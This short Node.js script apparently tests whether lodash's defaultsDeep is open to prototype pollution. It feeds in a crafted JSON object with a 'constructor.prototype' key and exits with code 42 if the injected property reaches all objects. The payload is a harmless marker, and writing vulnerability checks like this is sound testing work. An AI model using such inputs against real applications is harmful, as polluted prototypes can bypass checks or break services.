const { defaultsDeep } = require('lodash');
defaultsDeep({}, JSON.parse('{"constructor": {"prototype": {"mark": 7}}}'));
process.exit({}.mark === 7 ? 42 : 0);
